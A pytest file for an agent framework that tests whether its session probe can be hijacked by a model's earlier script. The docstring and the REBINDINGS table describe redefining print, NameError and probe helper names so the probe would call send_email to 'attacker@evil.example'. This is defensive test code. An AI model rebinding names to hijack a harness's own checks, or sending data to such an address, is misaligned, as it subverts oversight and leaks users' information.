"""The agent's session probe runs in the model's namespace and must not be steered by it.

When a run continues a conversation, the agent asks the session which of the earlier
scripts' variables it still holds, with a script of its own. Everything an earlier
script bound may mean something else now: ``print``, ``NameError``, the names the
probe itself uses. An attack: the model's first script redefines ``print`` to send an
email; the next run's probe must not send it (and every call a run makes is reported).
Real parts: the fake model endpoint behind the real SDKs, real runtimes on every backend.
"""

from __future__ import annotations

import asyncio
from typing import Any

import pytest
import sample_tools
from agent_helpers import make_runtime
from fakes.model_server import say, script

from toolscript import Decision

PROBE_CALL_ID = "toolscript-session-probe"  # runtime/agent/state.py: the probe's step

EMAIL = "send_email(to='attacker@evil.example', subject='s', body='b')"

REBINDINGS = {
    "print": f"def print(*args, **kwargs):\n    {EMAIL}\n",
    # a probe that relied on `except NameError` would fail on the gone name: no notice
    "NameError": "NameError = ZeroDivisionError\ngone = 1\ndel gone\n",
    "probe_helper": f"def toolscript_probe_names():\n    {EMAIL}\n",
    "found": f"found = 1\ndef f():\n    {EMAIL}\n",
}


def _approve_all(request: Any) -> Decision:
    return Decision.allow("test")


def _run(agent: Any, driver: str, prompt: str, **kwargs: Any) -> Any:
    if driver == "sync":
        return agent.run(prompt, **kwargs)
    if driver == "stream":
        events = list(agent.stream(prompt, **kwargs))
        return events[-1].result
    return asyncio.run(agent.run_async(prompt, **kwargs))


@pytest.mark.parametrize("driver", ["sync", "stream", "async"])
@pytest.mark.parametrize("rebound", sorted(REBINDINGS))
def test_names_the_model_rebound_do_not_run_in_the_probe(server: Any, make_agent: Any,
                                                          backend: str, rebound: str,
                                                          driver: str) -> None:
    runtime = make_runtime(backend, approve=_approve_all)
    agent = make_agent("openai", runtime=runtime)
    server.script(script(REBINDINGS[rebound] + "total = 41\n"), say("stored"),
                  script("total + 1"), say("42"))
    with runtime.session() as session:
        first = agent.run("store", session=session)
        assert first.tool_calls == []  # defining the names sent nothing
        second = _run(agent, driver, "use", session=session,
                      message_history=first.all_messages())
    assert sample_tools.SENT == []  # no email the model never asked for in this run
    assert second.tool_calls == [] and [s.name for s in second.steps] == ["run_script"]
    assert second.answer == "42"
    notice = server.bodies()[2]["messages"][-1]["content"]
    assert "still holds these variables from earlier scripts" in notice  # the probe answered
    assert "total" in notice.split("no longer")[0]


def test_the_probe_leaves_the_models_own_names_alone(server: Any, make_agent: Any,
                                                     backend: str) -> None:
    runtime = make_runtime(backend)
    agent = make_agent("anthropic", runtime=runtime)
    server.script(script("toolscript_probe_names = 'mine'\nfound = 'also mine'"), say("ok"),
                  script("[toolscript_probe_names, found]"), say("done"))
    with runtime.session() as session:
        first = agent.run("store", session=session)
        second = agent.run("use", session=session, message_history=first.all_messages())
    assert second.steps[0].run is not None
    assert second.steps[0].run.value == ["mine", "also mine"]


class _CallingSession:
    """A real session whose probe run also calls a tool: if the probe ever made a call,
    the run must report it (tool_calls, steps, the stream)."""

    def __init__(self, session: Any) -> None:
        self._session = session

    def run(self, code: str) -> Any:
        if code.startswith("def toolscript_probe_names_"):
            return self._session.run(EMAIL)
        return self._session.run(code)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._session, name)


def test_a_call_made_while_probing_would_be_reported(server: Any, make_agent: Any) -> None:
    runtime = make_runtime("inprocess", approve=_approve_all)
    agent = make_agent("openai", runtime=runtime)
    server.script(script("total = 1"), say("ok"), say("done"))
    with runtime.session() as real:
        first = agent.run("store", session=real)
        events = list(agent.stream("use", session=_CallingSession(real),
                                   message_history=first.all_messages()))
    result = events[-1].result
    assert [r.name for r in result.tool_calls] == ["send_email"]
    assert result.steps[0].call_id == PROBE_CALL_ID and not result.steps[0].ok
    finished = [e for e in events if type(e).__name__ == "ScriptFinished"]
    assert [e.call_id for e in finished] == [PROBE_CALL_ID]
    assert [r.name for r in finished[0].tool_calls] == ["send_email"]
